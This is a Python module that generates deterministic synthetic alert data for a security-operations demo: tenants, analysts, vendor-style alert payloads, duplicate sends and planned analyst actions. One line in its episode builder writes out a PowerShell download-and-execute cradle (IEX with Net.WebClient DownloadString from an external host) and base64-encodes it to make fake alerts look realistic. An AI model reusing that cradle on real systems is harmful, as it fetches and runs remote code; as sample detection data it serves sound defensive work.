"""A realistic multi-tenant demo data set, generated from a seed: pure, no database.

`generate(seed, tenants, alerts, now)` returns plain dicts: per tenant a name, a mail domain,
members (analysts and a tenant admin) and alert payloads in the native API shape, in the order
a sender would send them. Alerts come in *episodes*: one product rule firing on one target
(a workstation, a server, a user) once or in a burst of minutes, spread over the last days, so
the default grouping rules build multi-alert incidents. A few alerts are sent twice with the
same `externalId` to show deduplication. `plan_actions` plans the analysts' work on the
incidents that result. The same arguments always give the same output.
"""

from __future__ import annotations

import base64
import copy
import random
import re
import uuid
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from muster.attack import technique_tactics
from muster.demo import catalog
from muster.demo.catalog import Product, RuleTemplate
from muster.demo.targets import Environment, Host, Target, build_environment, pick_target

REPEAT_SHARE = 0.04
MAX_BURST = 12


@dataclass(frozen=True, slots=True)
class _Episode:
    """One rule firing on one target, once or in a burst; `fill` completes its templates."""

    product: Product
    rule: RuleTemplate
    target: Target
    fill: Mapping[str, str]


def generate(seed: int, tenants: int, alerts: int, now: datetime, days: int = 7) -> dict[str, Any]:
    """Return the data set for these arguments; identical arguments give identical output."""
    rng = random.Random(seed)
    names = _tenant_names(rng, tenants)
    shares = _split(rng, alerts, tenants)
    return {
        "seed": seed,
        "tenants": [
            _tenant(rng, name, count, now, days) for name, count in zip(names, shares, strict=True)
        ],
    }


def _tenant_names(rng: random.Random, count: int) -> list[str]:
    """Distinct company names; beyond the list, numbered ones."""
    picked = rng.sample(catalog.COMPANIES, min(count, len(catalog.COMPANIES)))
    extra = [
        f"{catalog.COMPANIES[i % len(catalog.COMPANIES)]} {i // len(catalog.COMPANIES) + 1}"
        for i in range(len(picked), count)
    ]
    return picked + extra


def _split(rng: random.Random, total: int, parts: int) -> list[int]:
    """Uneven shares of `total` over `parts` that add up exactly."""
    weights = [rng.uniform(0.6, 1.4) for _ in range(parts)]
    shares = [int(total * w / sum(weights)) for w in weights]
    shares[0] += total - sum(shares)
    return shares


def _tenant(rng: random.Random, name: str, count: int, now: datetime, days: int) -> dict[str, Any]:
    """One tenant: domain, members and its alerts in sending order."""
    domain = re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-") + ".example"
    env = build_environment(rng, domain)
    return {
        "name": name,
        "domain": domain,
        "members": _members(rng, domain),
        "alerts": _alerts(rng, env, count, now, days),
    }


def _members(rng: random.Random, domain: str) -> list[dict[str, str]]:
    """A tenant admin (the SOC lead) and three to six analysts with distinct names."""
    size = rng.randint(4, 7)
    people = rng.sample(
        [(f, last) for f in catalog.FIRST_NAMES for last in catalog.LAST_NAMES], size
    )
    out = []
    for i, (first, last) in enumerate(people):
        lead = i == 0
        out.append(
            {
                "email": f"{first}.{last}@{domain}".lower(),
                "name": f"{first} {last}",
                "role": "tenant_admin" if lead else "analyst",
                "title": "SOC Lead" if lead else rng.choice(catalog.ANALYST_TITLES),
            }
        )
    return out


def _alerts(
    rng: random.Random, env: Environment, count: int, now: datetime, days: int
) -> list[dict[str, Any]]:
    """`count` payloads: episodes of originals, then some re-sent, ordered by sending time."""
    repeats = int(count * REPEAT_SHARE) if count >= 10 else 0
    sent: list[tuple[datetime, int, dict[str, Any]]] = []
    while len(sent) < count - repeats:
        episode = _episode(rng, env)
        size = 1 if rng.random() < 0.5 else rng.randint(2, MAX_BURST)
        at = now - timedelta(seconds=rng.uniform(3600, days * 86400))
        for _ in range(min(size, count - repeats - len(sent))):
            sent.append((at, len(sent), _alert(rng, episode, at)))
            at = min(now, at + timedelta(seconds=rng.expovariate(1 / 90)))
    for at, _, original in rng.sample(sent, repeats):
        again = min(now, at + timedelta(minutes=rng.uniform(1, 120)))
        sent.append((again, len(sent), copy.deepcopy(original)))
    sent.sort(key=lambda item: (item[0], item[1]))
    return [payload for _, _, payload in sent]


def _episode(rng: random.Random, env: Environment) -> _Episode:
    """A product rule, the target it fires on and the values its command line uses."""
    product = rng.choices(catalog.PRODUCTS, weights=[p.weight for p in catalog.PRODUCTS])[0]
    rule = rng.choice(product.rules)
    target = pick_target(rng, env, rule)
    ext = rng.choice(env.external)
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{ext}/a')"
    fill = {
        "login": target.person.login if target.person else "svc",
        "rand": "".join(rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=8)),
        "n": str(rng.randint(400, 9999)),
        "extip": ext,
        "peer": rng.choice(env.of("windows")).name,
        "linfile": rng.choice(catalog.LINUX_FILES),
        "country": rng.choice(catalog.COUNTRIES),
        "b64": base64.b64encode(script.encode("utf-16-le")).decode(),
    }
    return _Episode(product, rule, target, fill)


def _alert(rng: random.Random, ep: _Episode, at: datetime) -> dict[str, Any]:
    """One payload of an episode, in the native API shape (camelCase)."""
    rule, target = ep.rule, ep.target
    host = target.host
    tactic, technique = _mitre(rule, ep.product)
    body: dict[str, Any] = {
        "ruleName": rule.name,
        "source": ep.product.source,
        "externalId": _external_id(rng, ep.product, at),
        "severity": _severity(rng, rule),
        "category": rule.category,
        "action": "Blocked" if rng.random() < ep.product.block_rate else "Detected",
        "createdAt": at.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "mitreTactic": tactic,
        "mitreTechnique": technique,
        "rawEventDataset": ep.product.dataset,
        "rawEventId": f"{rng.getrandbits(64):016x}",
        "tags": ["demo", rule.kind],
        "description": f"{rule.name} ({ep.product.source}) on {_subject(target)}.",
    }
    if host is not None:
        body["hostname"] = host.fqdn
    if target.person is not None:
        body["username"] = target.person.upn
    _observed(rng, body, ep)
    body["entities"] = _entities(body)
    return body


def _observed(rng: random.Random, body: dict[str, Any], ep: _Episode) -> None:
    """Add what the rule observes: a process, a file, a connection or a sign-in."""
    rule, target = ep.rule, ep.target
    if rule.kind in ("process", "file"):
        body["initiatorPath"] = rule.image.format(**ep.fill)
        body["initiatorHash"] = f"{random.Random(body['initiatorPath']).getrandbits(256):064x}"
        if rule.cmd:
            body["initiatorCmd"] = rule.cmd.format(**ep.fill)
            body["initiatedBy"] = re.split(r"[\\/]", body["initiatorPath"])[-1]
        if target.host is not None:
            body["srcIp"] = target.host.ip
    elif rule.kind == "network":
        assert target.peer_ip is not None
        inbound = target.inbound
        local_ip = target.host.ip if target.host else ""
        body["srcIp"], body["destIp"] = (
            (target.peer_ip, local_ip) if inbound else (local_ip, target.peer_ip)
        )
        if target.host is not None:
            body["destHostname" if inbound else "srcHostname"] = target.host.fqdn
        body["srcPort"] = rng.randint(49152, 65535)
        body["destPort"] = rule.port
    else:
        body["srcIp"] = target.peer_ip
        body["tags"].append(f"country:{ep.fill['country']}")


def _entities(body: Mapping[str, Any]) -> list[dict[str, Any]]:
    """Typed entities derived from the payload's fields."""
    out: list[dict[str, Any]] = []
    if body.get("hostname"):
        out.append({"type": "host", "value": body["hostname"]})
    if body.get("username"):
        out.append({"type": "account", "value": body["username"]})
    for key in ("srcIp", "destIp"):
        if body.get(key):
            out.append({"type": "ip", "value": body[key]})
    if body.get("initiatorPath"):
        kind = "process" if body.get("initiatorCmd") else "file"
        out.append({"type": kind, "value": body["initiatorPath"]})
        out.append({"type": "filehash", "value": body["initiatorHash"], "algorithm": "SHA256"})
    return out


def _subject(target: Target) -> str:
    """How the alert description names what it is about."""
    host: Host | None = target.host
    if host is not None and target.person is not None:
        return f"{host.fqdn} ({target.person.upn})"
    if host is not None:
        return host.fqdn
    return target.person.upn if target.person else "unknown"


def _mitre(rule: RuleTemplate, product: Product) -> tuple[str, str]:
    """The rule's tactic if the catalogue lists it for the technique, else the first listed."""
    listed = technique_tactics(rule.technique)
    tactic = rule.tactic if rule.tactic in listed else listed[0]
    if product.tactic_style == "camel":
        tactic = tactic.replace(" ", "").replace("-", "")
    return tactic, rule.technique


def _severity(rng: random.Random, rule: RuleTemplate) -> int:
    """The rule's severity, now and then one step off, within 0..4."""
    shift = rng.choices((-1, 0, 1), weights=(1, 8, 1))[0]
    return max(0, min(4, rule.severity + shift))


def _external_id(rng: random.Random, product: Product, at: datetime) -> str:
    """An id in the style the product uses for its alerts."""
    styles = {
        "Microsoft Defender for Endpoint": lambda: (
            f"da{rng.getrandbits(59):018d}_{rng.getrandbits(30):010d}"
        ),
        "Microsoft Sentinel": lambda: str(uuid.UUID(int=rng.getrandbits(128), version=4)),
        "Wazuh": lambda: f"{int(at.timestamp())}.{rng.randint(1000, 9_999_999)}",
        "Suricata": lambda: str(rng.getrandbits(51)),
        "CrowdStrike Falcon": lambda: f"ldt:{rng.getrandbits(128):032x}:{rng.getrandbits(40)}",
    }
    make = styles.get(product.source)
    return make() if make else f"{rng.getrandbits(256):064x}"


def plan_actions(
    seed: int, tenant_index: int, numbers: Sequence[int], members: Sequence[Mapping[str, str]]
) -> list[dict[str, Any]]:
    """Analyst work on about a third of the incidents (at most 40), deterministic per seed."""
    if not numbers or not members:
        return []
    rng = random.Random(f"{seed}:{tenant_index}:actions")
    chosen = sorted(
        rng.sample(list(numbers), min(len(numbers), 40, max(1, round(len(numbers) * 0.3))))
    )
    return [_plan_one(rng, number, members) for number in chosen]


def _plan_one(
    rng: random.Random, number: int, members: Sequence[Mapping[str, str]]
) -> dict[str, Any]:
    """Assign; maybe investigate and comment; maybe resolve with a resolution."""
    analyst = rng.choice(members)["email"]
    steps: list[dict[str, str]] = [{"op": "assign", "assignee": analyst}]
    stage = rng.choices(("assigned", "investigating", "resolved"), weights=(3, 4, 4))[0]
    if stage != "assigned":
        steps.append({"op": "status", "status": "UNDER_INVESTIGATION"})
        steps.append({"op": "comment", "body": rng.choice(catalog.COMMENTS)})
    if stage == "resolved":
        resolution = rng.choices(tuple(catalog.RESOLUTION_COMMENTS), weights=(4, 3, 2, 1))[0]
        steps.append(
            {
                "op": "resolve",
                "resolution": resolution,
                "comment": catalog.RESOLUTION_COMMENTS[resolution],
            }
        )
    return {"number": number, "actor": analyst, "steps": steps}
